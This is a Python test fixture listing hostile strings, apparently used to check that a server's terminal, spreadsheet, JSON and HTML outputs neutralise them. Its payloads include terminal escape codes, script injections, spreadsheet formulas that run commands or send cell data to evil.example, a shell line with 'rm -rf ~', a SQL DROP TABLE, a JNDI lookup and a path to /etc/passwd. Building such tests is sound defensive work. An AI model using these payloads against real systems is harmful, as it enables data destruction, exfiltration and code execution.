"""Text that a hostile caller may have recorded: the one corpus, for the tests of every output.

A test of an output takes `HOSTILE_TEXTS` (or `recordable()`, the part that a server takes in prose such as `reason` and
names), records or renders each, and holds what comes out against what its reader would do with it: `is_harmless` for
a terminal, `csv.reader` and `is_formula` for a spreadsheet, a JSON parser, an HTML parser.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Iterable
from dataclasses import dataclass

import pytest

MAX_PROSE_BYTES = 256
"""Every recordable text but the one `very long` fits the shortest prose member."""


@dataclass(frozen=True)
class HostileText:
    r"""One text: what it attacks (`terminal`, `html`, `sheet`, `syntax`), and how `shown` marks its dangerous part.

    `escape` is what must stand in output for a terminal, such as `\u202e`; empty where the text stays as it is.
    """

    name: str
    text: str
    attacks: str
    escape: str = ""

    @property
    def recordable(self) -> bool:
        """Whether a server takes it in prose: UTF-8 without NUL."""
        return "\0" not in self.text and not any(0xD800 <= ord(c) <= 0xDFFF for c in self.text)

    @property
    def is_one_line_of_printables(self) -> bool:
        """Whether a server takes it as an id too, where no control character may stand."""
        return self.recordable and not any(unicodedata.category(c) == "Cc" for c in self.text)


def _terminal(name: str, text: str, escape: str) -> HostileText:
    return HostileText(name, text, "terminal", escape)


HOSTILE_TEXTS: tuple[HostileText, ...] = (
    _terminal("escape sequence", "\x1b[2J\x1b[31m", "\\u001b"),
    _terminal("window title", "\x1b]0;owned\x07", "\\u0007"),
    _terminal("hyperlink of a terminal", "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\", "\\u001b"),
    _terminal("clipboard write", "\x1b]52;c;cm0gLXJmIH4=\x07", "\\u001b"),
    _terminal("answer-back request", "\x05\x1b[6n\x1b[c", "\\u0005"),
    _terminal("one-byte CSI", "\x9b31m", "\\u009b"),
    _terminal("carriage return", "ok\rFAKE", "\\r"),
    _terminal("line feed", "ok\nFAKE", "\\n"),
    _terminal("both line ends", "ok\r\nindex,time\r\n0,FAKE", "\\r\\n"),
    _terminal("tab", "a\tb", "\\t"),
    _terminal("vertical tab and form feed", "a\x0bb\x0cc", "\\u000b"),
    _terminal("backspace", "abc\b\b\bxyz", "\\u0008"),
    _terminal("delete", "a\x7f", "\\u007f"),
    _terminal("null", "a\0b", "\\u0000"),
    _terminal("lone null", "\0", "\\u0000"),
    _terminal("right-to-left override", "\u202egnp.exe", "\\u202e"),
    _terminal("unclosed embedding", "\u202b\u202aabc", "\\u202b"),
    _terminal("bidi isolate", "\u2066a\u2069", "\\u2066"),
    _terminal("Arabic letter mark", "\u061c", "\\u061c"),
    _terminal("zero-width space", "adm\u200bin", "\\u200b"),
    _terminal("zero-width joiner", "adm\u200din", "\\u200d"),
    _terminal("byte order mark", "\ufeffadmin", "\\ufeff"),
    _terminal("soft hyphen", "ad\u00admin", "\\u00ad"),
    _terminal("no-break space", "a\u00a0b", "\\u00a0"),
    _terminal("line separator", "a\u2028b", "\\u2028"),
    _terminal("paragraph separator", "a\u2029b", "\\u2029"),
    _terminal("next line", "a\u0085b", "\\u0085"),
    _terminal("tag character", "a\U000e0041", "\\U000e0041"),
    _terminal("variation selector", "a\ufe0f", "\\ufe0f"),
    _terminal("variation selector of plane 14", "a\U000e0100", "\\U000e0100"),
    _terminal("Hangul filler", "a\u3164", "\\u3164"),
    _terminal("private use", "\ue000", "\\ue000"),
    _terminal("noncharacter", "\ufffe", "\\ufffe"),
    _terminal("lone surrogate", "\ud800", "\\ud800"),
    HostileText("piled accents", "Z" + "\u0301" * 100, "terminal"),
    HostileText("markup of tables", "[red]x[/red] :smile: [link=http://e]y[/link]", "terminal"),
    HostileText("script element", "<script>alert(1)</script>", "html"),
    HostileText("image with handler", '"><img src=x onerror=alert(1)>', "html"),
    HostileText("attribute breaker", "' autofocus onfocus=alert(1) x='", "html"),
    HostileText("end of style and svg", "</style></title></textarea><svg/onload=alert(1)>", "html"),
    HostileText("comment ends", "--><b>bold</b><!--", "html"),
    HostileText("CDATA end", "]]><x/>", "html"),
    HostileText("character references", "&lt;b&gt; &#60;i&#62; &amp;quot;", "html"),
    HostileText("script address", "javascript:alert(1)", "html"),
    HostileText("meta refresh", '<meta http-equiv=refresh content="0;url=//evil.example">', "html"),
    HostileText("formula", "=1+1", "sheet"),
    HostileText("formula with plus", "+1+cmd|' /C calc'!A0", "sheet"),
    HostileText("formula with minus", "-1+1", "sheet"),
    HostileText("formula with at", "@SUM(A1:A9)", "sheet"),
    HostileText("formula that calls out", '=HYPERLINK("http://evil.example?"&A1,"click")', "sheet"),
    HostileText("formula behind spaces", "  =1+1", "sheet"),
    _terminal("formula behind a tab", "\t=1+1", "\\t"),
    _terminal("formula behind a carriage return", "\r=1+1", "\\r"),
    _terminal("formula behind a line feed", "\n=1+1", "\\n"),
    _terminal("formula behind a zero-width space", "\u200b=1+1", "\\u200b"),
    _terminal("formula behind a byte order mark", "\ufeff=1+1", "\\ufeff"),
    HostileText("full-width formula", "\uff1d1+1", "sheet"),
    HostileText("formula after a separator", 'a,=1+1;=2+2|"=3+3"', "sheet"),
    HostileText("apostrophe before a formula", "'=1+1", "sheet"),
    HostileText("apostrophe alone", "'", "sheet"),
    HostileText("a formula's guard twice", "''=1+1", "sheet"),
    HostileText("quotation mark", '"', "syntax"),
    HostileText("quotes and commas", '","","', "syntax"),
    HostileText("end of a JSON string", '"},"index":7,"x":{"y":"', "syntax"),
    HostileText("backslash at the end", "a\\", "syntax"),
    HostileText("escapes written out", "\\u0000 \\n \\x1b[2J \\ud800", "syntax"),
    HostileText("SQL", "'); DROP TABLE entries; --", "syntax"),
    HostileText("shell", "$(touch /tmp/x) `id` ; rm -rf ~ | sh & !!", "syntax"),
    HostileText("templates", "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %> %s%n %(x)s {0.__class__}", "syntax"),
    HostileText("path", "../../../../etc/passwd", "syntax"),
    HostileText("partition", "region=x/accountId=../eventDay=20000101", "syntax"),
    HostileText("blank", " ", "syntax"),
    HostileText("words for nothing", "null NaN true None undefined", "syntax"),
    HostileText("number too long for a sheet", "12345678901234567890123", "syntax"),
    HostileText("filter syntax", 'x" OR action = "*', "syntax"),
    HostileText("very long", "A" * 1_024, "syntax"),
    HostileText("very long without a place to break", "\U0001f600" * 256, "syntax"),
)


def recordable(texts: Iterable[HostileText] = HOSTILE_TEXTS) -> list[HostileText]:
    """Return those that can be recorded in `reason`; a member for names takes those of 256 bytes."""
    return [hostile for hostile in texts if hostile.recordable]


def is_harmless(text: str) -> bool:
    """Tell whether no character of it can move the cursor, hide or reorder text."""
    return not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"} for c in text)


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet might calculate a cell, whatever blank stands before the sign."""
    visible = cell.lstrip().lstrip("\u200b\u200c\u200d\u2060\ufeff\u00ad").lstrip()
    return visible.startswith(("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"))


def named(texts: Iterable[HostileText]) -> pytest.MarkDecorator:
    """Parametrize a test by `hostile`, each case with its name."""
    cases = list(texts)
    return pytest.mark.parametrize("hostile", cases, ids=[hostile.name for hostile in cases])


every_hostile_text = named(HOSTILE_TEXTS)
every_recordable_text = named(recordable())
